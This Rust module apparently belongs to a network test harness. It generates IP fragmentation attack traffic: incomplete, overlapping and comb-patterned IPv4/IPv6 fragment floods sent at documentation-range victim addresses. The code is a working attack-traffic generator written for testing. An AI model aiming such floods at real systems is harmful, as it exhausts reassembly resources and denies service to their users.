//! Attacks on defragmentation.

use super::storm::{Storm, Truth, scattered, scattered_v6};
use crate::{Addr, Frame, checksum, eth, ip_proto, ipv4, ipv6};
use std::io;

const VICTIM: [u8; 4] = [192, 0, 2, 80];
const VICTIM_V6: Addr = Addr::v6([0x20, 0x01, 0x0d, 0xb8, 0, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1]);

/// Pieces of a datagram of [`tiny`] and [`comb`]: just below what one datagram may have.
const PIECES: u16 = 1_000;

/// An Ethernet frame with one fragment; `offset` in bytes.
fn fragment(src: Addr, id: u32, offset: u16, more: bool, data: &[u8]) -> Vec<u8> {
    let field = offset | u16::from(more);
    let (packet, kind) = match src.as_v4() {
        Some(from) => {
            let mut p = ipv4(from, VICTIM, ip_proto::UDP, data);
            p[4..6].copy_from_slice(&(id as u16).to_be_bytes());
            p[6..8].copy_from_slice(&((offset / 8) | (u16::from(more) << 13)).to_be_bytes());
            p[10..12].fill(0);
            let sum = checksum(&[&p[..20]]);
            p[10..12].copy_from_slice(&sum.to_be_bytes());
            (p, 0x0800)
        }
        None => {
            let header = [&[ip_proto::UDP, 0][..], &field.to_be_bytes(), &id.to_be_bytes()].concat();
            (ipv6(src, VICTIM_V6, 44, &[&header[..], data].concat()), 0x86dd)
        }
    };
    let ends = Frame::other(src, src, 0, b"");
    eth(ends.src.mac(), ends.dst.mac(), kind, &packet)
}

/// Many sources, two or three fragments each with a hole between them.
fn never(storm: &mut Storm<'_>, n: u64, source: fn(u64) -> Addr) -> io::Result<Truth> {
    let data = [0x55; 240];
    for i in 0..n / 3 {
        let (src, id) = (source(i / 4), storm.random.draw() as u32);
        storm.send(&fragment(src, id, 0, true, &data))?;
        storm.send(&fragment(src, id, 480, true, &data))?;
        storm.send(&fragment(src, id, 960, i % 2 == 0, &data))?;
    }
    Ok(Truth::default())
}

pub(super) fn never_v4(storm: &mut Storm<'_>, n: u64) -> io::Result<Truth> {
    never(storm, n, scattered)
}

pub(super) fn never_v6(storm: &mut Storm<'_>, n: u64) -> io::Result<Truth> {
    never(storm, n, scattered_v6)
}

/// The last piece first, then all others in order but the first; overlapping, and the datagrams of four sources
/// in turn.
pub(super) fn tiny(storm: &mut Storm<'_>, n: u64) -> io::Result<Truth> {
    for i in 0..n / 4 {
        let id = storm.random.draw() as u32;
        let sources = [scattered(4 * i), scattered(4 * i + 1), scattered_v6(i), scattered(4 * i + 3)];
        for src in sources {
            storm.send(&fragment(src, id, 8 * PIECES, false, &[9; 8]))?;
        }
        for k in 1..PIECES - 1 {
            for src in sources {
                storm.send(&fragment(src, id, 8 * k, true, &[k as u8; 16]))?;
            }
        }
    }
    Ok(Truth::default())
}

/// Every other piece, from the last to the first, then one fragment that covers them all but for the end.
pub(super) fn comb(storm: &mut Storm<'_>, n: u64) -> io::Result<Truth> {
    let whole = vec![7; 16 * usize::from(PIECES)];
    for i in 0..n {
        let (src, id) = (scattered(i), storm.random.draw() as u32);
        for k in (1..PIECES).rev() {
            storm.send(&fragment(src, id, 16 * k, true, &[7; 8]))?;
        }
        storm.send(&fragment(src, id, 0, true, &whole))?;
    }
    Ok(Truth::default())
}
